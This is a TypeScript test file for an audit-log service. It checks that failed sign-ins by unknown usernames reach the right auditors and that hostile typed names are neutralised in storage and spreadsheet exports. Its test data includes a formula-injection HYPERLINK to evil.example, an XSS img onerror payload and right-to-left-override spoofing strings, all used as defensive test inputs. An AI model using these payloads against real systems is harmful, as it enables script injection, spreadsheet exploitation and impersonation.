import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { systemActor } from '../../audit/actor';
import { appendAudit } from '../../audit/audit.repository';
import { verifyAuditExport } from '../../audit/export';
import { inTransaction } from '../../context';
import { createTestApp, signInAs, type Client } from '../../test/app';
import { makeOrg, makeUser } from '../../test/factories';

/**
 * Issue 17, finding 10: failed sign-ins of names with no account and per-address rate limits carry
 * no organisation, and only the top organisation's auditor read them — the demo's 湖北省 has none,
 * so nobody did. And the typed name (=HYPERLINK(…), <img onerror=…>, a right-to-left override)
 * was stored as the actor's name, readable as "system" or anyone's name.
 *
 * A demo-like tree (湖北省 with no auditor → 武汉市 → 新洲区, 黄陂区 each with an auditor), through
 * the real routes, on both engines.
 */
const RLO = '\u202e';
const HOSTILE = ['=HYPERLINK("http://evil.example/?x","点此")', '<img src=x onerror=alert(1)>', `admin${RLO}fdp.exe`, 'system', RLO.repeat(64)];
const SHOWN = [
  '输入的用户名：=HYPERLINK("http://evil.example/?x","点此")',
  '输入的用户名：<img src=x onerror=alert(1)>',
  '输入的用户名：admin[U+202E]fdp.exe',
  '输入的用户名：system',
  `输入的用户名：${'[U+202E]'.repeat(8)}…`,
];

type Line = { action: string; actor: { userId: number | null; name: string; roleLabel: string | null }; entries: { after: Record<string, unknown> | null }[] };

describe('events of callers who are not signed in reach the auditors, their text neutralised', () => {
  let t: Awaited<ReturnType<typeof createTestApp>>;
  let xinzhouAuditor: Client, huangpiAuditor: Client, cityAuditor: Client;
  let huangpiClerk: { id: number; username: string };

  const login = (ip: string, username: string, password = 'Wrong#pw1') =>
    (async () => {
      const csrf = (await t.app.inject({ method: 'GET', url: '/api/auth/csrf' })).json<{ csrfToken: string }>().csrfToken;
      return t.app.inject({ method: 'POST', url: '/api/auth/login', remoteAddress: ip, headers: { 'x-csrf-token': csrf, cookie: `duban_csrf=${csrf}` }, payload: { username, password } });
    })();
  const lines = async (who: Client) => {
    const res = await who.request('GET', '/api/audit?limit=200');
    expect(res.statusCode, res.body).toBe(200);
    return (res.json() as { lines: Line[] }).lines;
  };

  beforeAll(async () => {
    t = await createTestApp({ DUBAN_RATE_LIMIT_SIGN_IN: '6', DUBAN_RATE_LIMIT_WINDOW_SECONDS: '3600' });
    const province = await makeOrg(t.ctx, { name: '湖北省', level: 'province' });
    const city = await makeOrg(t.ctx, { name: '武汉市', level: 'city', parentId: province.id });
    const xinzhou = await makeOrg(t.ctx, { name: '新洲区', parentId: city.id });
    const huangpi = await makeOrg(t.ctx, { name: '黄陂区', parentId: city.id });
    xinzhouAuditor = await signInAs(t.app, (await makeUser(t.ctx, xinzhou.id, 'auditor')).username);
    huangpiAuditor = await signInAs(t.app, (await makeUser(t.ctx, huangpi.id, 'auditor')).username);
    cityAuditor = await signInAs(t.app, (await makeUser(t.ctx, city.id, 'auditor')).username);
    huangpiClerk = await makeUser(t.ctx, huangpi.id, 'office');

    // Names with no account, typed by a prober; a wrong password for a real 黄陂区 account; a
    // flood of sign-ins from one address until it is rate-limited; a restore (no organisation,
    // not a caller's event: the deployment's auditor only).
    for (const name of HOSTILE) expect((await login('10.1.1.1', name)).statusCode).toBe(401);
    expect((await login('10.1.1.2', huangpiClerk.username)).statusCode).toBe(401);
    for (let i = 0; i < 6; i++) expect((await login('10.1.1.3', `nobody${i}`)).statusCode).toBe(401);
    expect((await login('10.1.1.3', 'nobody6')).statusCode).toBe(429);
    await inTransaction(t.ctx, (trx) => appendAudit(trx, t.ctx.engine, { actor: systemActor('restore'), orgId: null, action: 'backup.restore', entity: 'backup', entityId: null, after: {} }));
  });
  afterAll(() => t.close());

  it('shows a district auditor the unknown names and the rate limit, and each organisation only its own accounts’ failures', async () => {
    for (const auditor of [xinzhouAuditor, huangpiAuditor, cityAuditor]) {
      const seen = await lines(auditor);
      const failedNames = seen.filter((l) => l.action === 'auth.sign_in_failed' && l.actor.userId === null).map((l) => l.actor.name);
      expect(failedNames).toEqual(expect.arrayContaining([...SHOWN, '输入的用户名：nobody0']));
      const limited = seen.filter((l) => l.action === 'security.rate_limited');
      expect(limited).toHaveLength(1);
      expect(limited[0]!.entries[0]!.after).toMatchObject({ bucket: 'sign-in', ip: '10.1.1.3' });
      // The restore is the deployment's (top organisation's) business, not a district's.
      expect(seen.map((l) => l.action)).not.toContain('backup.restore');
    }
    const clerkFailure = (l: Line) => l.action === 'auth.sign_in_failed' && l.actor.userId === huangpiClerk.id;
    expect((await lines(huangpiAuditor)).filter(clerkFailure)).toHaveLength(1);
    expect((await lines(xinzhouAuditor)).filter(clerkFailure)).toHaveLength(0);
    expect((await lines(cityAuditor)).filter(clerkFailure)).toHaveLength(0);
  });

  it('stores a typed name bounded, with reordering characters written out, marked as typed and never as the system', async () => {
    const rows = await t.ctx.db.selectFrom('audit_log').select(['actor_name', 'after_json']).where('action', '=', 'auth.sign_in_failed').where('actor_user_id', 'is', null).execute();
    expect(rows.map((r) => r.actor_name)).toEqual(expect.arrayContaining(SHOWN));
    for (const r of rows) {
      // eslint-disable-next-line no-control-regex -- no control character may be stored
      expect(r.actor_name + r.after_json).not.toMatch(/[\u0000-\u001f\u202a-\u202e\u2066-\u2069]/);
      expect([...r.actor_name].length).toBeLessThanOrEqual('输入的用户名：'.length + 65);
      expect(JSON.parse(r.after_json!)).toMatchObject({ noSuchAccount: true });
    }
    // In the log and in the person filter: a name no account has, not the system.
    const typedSystem = (await lines(xinzhouAuditor)).find((l) => l.actor.name === '输入的用户名：system')!;
    expect(typedSystem.actor.roleLabel).toBe('无此账号');
    const actors = (await xinzhouAuditor.request('GET', '/api/audit/actors')).json().items as { name: string; roleLabel: string | null }[];
    expect(actors.find((a) => a.name === '输入的用户名：system')?.roleLabel).toBe('无此账号');
    expect(actors.filter((a) => a.name.startsWith('输入的用户名：')).every((a) => a.roleLabel === '无此账号')).toBe(true);
    // The filter by that name finds exactly its entry.
    const byName = await xinzhouAuditor.request('GET', `/api/audit?actorName=${encodeURIComponent('输入的用户名：system')}`);
    expect(byName.json().lines.map((l: Line) => l.action)).toEqual(['auth.sign_in_failed']);
  });

  it('exports them to the district auditor: the workbook holds no formula and no cell a spreadsheet would evaluate, the JSON lines verify', async () => {
    const today = new Date(Date.now() + 8 * 3_600_000).toISOString().slice(0, 10);
    const xlsx = await xinzhouAuditor.request('GET', `/api/audit/export.xlsx?from=${today}&to=${today}`);
    expect(xlsx.statusCode, xlsx.body).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
    const cells: ExcelJS.Cell[] = [];
    wb.worksheets[0]!.eachRow((row) => row.eachCell((c) => cells.push(c)));
    const texts = cells.map((c) => String(c.value ?? ''));
    expect(texts).toEqual(expect.arrayContaining(SHOWN));
    expect(texts.some((s) => s.includes('security.rate_limited'))).toBe(true);
    expect(cells.filter((c) => c.type === ExcelJS.ValueType.Formula)).toEqual([]);
    expect(texts.filter((s) => /^[=+\-@\t\r]/.test(s))).toEqual([]);
    expect(texts.join('')).not.toContain(RLO);

    const jsonl = await xinzhouAuditor.request('GET', `/api/audit/export.jsonl?from=${today}&to=${today}`);
    const check = verifyAuditExport(jsonl.body);
    expect(check.ok, check.reason ?? '').toBe(true);
    expect(jsonl.body).toContain('security.rate_limited');
    expect(jsonl.body).not.toContain(RLO);
  });
});
